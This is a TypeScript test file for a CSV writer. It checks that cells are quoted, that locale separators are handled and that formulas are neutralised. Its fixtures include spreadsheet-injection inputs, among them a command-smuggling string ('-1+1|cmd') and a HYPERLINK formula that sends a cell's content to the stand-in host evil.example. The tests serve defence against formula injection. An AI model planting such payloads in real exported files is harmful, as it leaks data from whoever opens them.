import fc from "fast-check";
import { expect, test } from "vitest";
import { languages } from "#lib/platform/i18n/locales.ts";
import { csvLines } from "#lib/platform/text/csv.ts";

test.each<[unknown, string]>([
  ["plain", "plain"],
  ['He said "no", twice', '"He said ""no"", twice"'],
  ["two\nlines", '"two\nlines"'],
  ["two\r\nlines", '"two\r\nlines"'],
  ["=HYPERLINK(1)", "'=HYPERLINK(1)"],
  ["+33612345678", "'+33612345678"],
  ["-1+1|cmd", "'-1+1|cmd"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", "'\t'=1"],
  ["\n=1", "\"'\n'=1\""],
  ["＝1", "'＝1"],
  ["bike;=1;+2; @SUM(A1)", "bike;'=1;'+2;' @SUM(A1)"],
  ['Ada;"=HYPERLINK("http://evil.example/?"&A1', `"Ada;'""=HYPERLINK(""http://evil.example/?""&A1"`],
  ["X11; Linux", "X11; Linux"],
  ["a-b+c@d=e", "a-b+c@d=e"],
  ['=1,"2"', '"\'=1,""2"""'],
  [-5, "-5"],
  [0, "0"],
  [12.5, "12.5"],
  [false, "false"],
  [null, ""],
  [undefined, ""],
  ["", ""],
  [new Date("2026-05-01T10:00:00Z"), "2026-05-01T10:00:00.000Z"],
  [["LCD", "LMD"], "LCD LMD"],
  [["=1", "LMD"], "'=1 LMD"],
  [{ at: "=1" }, '"{""at"":""=1""}"'],
])("the cell %j is written as %s", (value, written) => {
  expect(csvLines([[value, "end"], [1]])).toBe(`${written},end\r\n1\r\n`);
});

// rules/statements.md#files-2
test("a French file separates by semicolons and has decimal commas, and cells with semicolons are quoted", () => {
  expect(csvLines([["Été", 12.5, -5, 0.0416, 1000, "a,b", "c;d", "=1", null]], "fr")).toBe(`Été;12,5;-5;0,0416;1000;a,b;"c;d";'=1;\r\n`);
});

// rules/statements.md#files-3
test.each(languages)(
  "no reader sees a formula, whichever separator it splits at, and whether or not it honours quotes, in a file in %s",
  (language) => {
    const text = fc.string({ unit: fc.constantFrom(...Array.from("=+-@＝;,\t\r\n\"' a1")), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 3 }), (cells) => {
        // More cells than any reader sees, each as it begins behind the quotes.
        const seen = csvLines([cells], language)
          .split(/[,;\t\r\n]/)
          .map((cell) => cell.replace(/^["\s]*/, ""));
        expect(seen.filter((cell) => /^[=+\-@＝]/.test(cell))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  },
);

test("a reader of RFC 4180 gets everything that is no formula back unchanged", () => {
  const harmless = fc.string({ unit: fc.constantFrom(...Array.from("ab1 \"',;\n")), maxLength: 12 });
  fc.assert(
    fc.property(harmless, (text) => {
      const quoted = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*)),1\r\n$/.exec(csvLines([[text, 1]]));
      expect(quoted?.[1]?.replaceAll('""', '"') ?? quoted?.[2]).toBe(text);
    }),
  );
});
